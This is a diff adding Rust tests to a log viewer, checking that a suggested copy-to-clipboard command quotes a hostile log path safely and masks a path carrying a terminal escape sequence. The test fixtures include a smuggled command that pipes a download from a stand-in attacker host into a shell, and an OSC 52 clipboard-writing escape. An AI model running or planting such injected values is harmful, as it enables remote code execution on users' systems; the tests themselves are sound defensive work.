@@ -498,3 +498,71 @@ fn a_user_regex_over_the_size_limit_is_reported_at_load() {
     let hits = common::jsonl(&out);
     assert!(hits.iter().any(|h| h["pattern"] == "fine-one"), "{hits:?}");
 }
+
+/// The viewer on one log of `text`, with its first hit selected.
+fn viewer_on(text: &'static [u8]) -> triage::app::App {
+    use triage::loader::{LogData, LogFile};
+    let log = LogFile::open("hostile.log", LogData::Static(text), None).unwrap();
+    let mut app = common::app_with(
+        vec![log],
+        common::options(triage::catalogue::Lang::En),
+        160,
+        48,
+    );
+    common::press(&mut app, "n");
+    app
+}
+
+#[test]
+fn the_viewer_copies_a_hostile_path_quoted_and_an_unpasteable_one_marked() {
+    use triage::app::Command as AppCommand;
+    let mut app = viewer_on(
+        b"2026/11/28 14:03:05 [emerg] 1#1: open() \"/etc/x'; curl -fsSL http://evil.example/p | sh; : '\" failed (21: Is a directory)\n",
+    );
+    let commands = common::press(&mut app, "y");
+    let [AppCommand::Copy(text)] = commands.as_slice() else {
+        panic!("{commands:?} {:?}", app.message)
+    };
+    assert_eq!(
+        shell_words::split(text).unwrap(),
+        [
+            "docker",
+            "compose",
+            "-f",
+            "docker-compose.prod.yml",
+            "config",
+            "|",
+            "grep",
+            "-B2",
+            "target: /etc/x'; curl -fsSL http://evil.example/p | sh; : '",
+        ],
+        "{text}"
+    );
+    assert!(
+        app.message
+            .as_deref()
+            .unwrap()
+            .starts_with("Copied to clipboard"),
+        "{:?}",
+        app.message
+    );
+
+    let mut app = viewer_on(
+        b"2026/11/28 14:03:05 [emerg] 1#1: open() \"/etc/x\x1b]52;c;cmVib290\x07\" failed (21: Is a directory)\n",
+    );
+    let commands = common::press(&mut app, "y");
+    let [AppCommand::Copy(text)] = commands.as_slice() else {
+        panic!("{commands:?} {:?}", app.message)
+    };
+    assert!(text.ends_with("grep -B2 'target: <path>'"), "{text:?}");
+    let message = app.message.as_deref().unwrap();
+    assert!(message.contains("fill in <path>"), "{message}");
+}
+
+#[test]
+fn a_search_regex_over_the_size_limit_says_why() {
+    let mut app = viewer_on(b"a line\n");
+    common::press(&mut app, "/a{1000}{1000}\n");
+    let message = app.message.as_deref().unwrap_or("");
+    assert!(message.contains("Regex too big"), "{message:?}");
+}
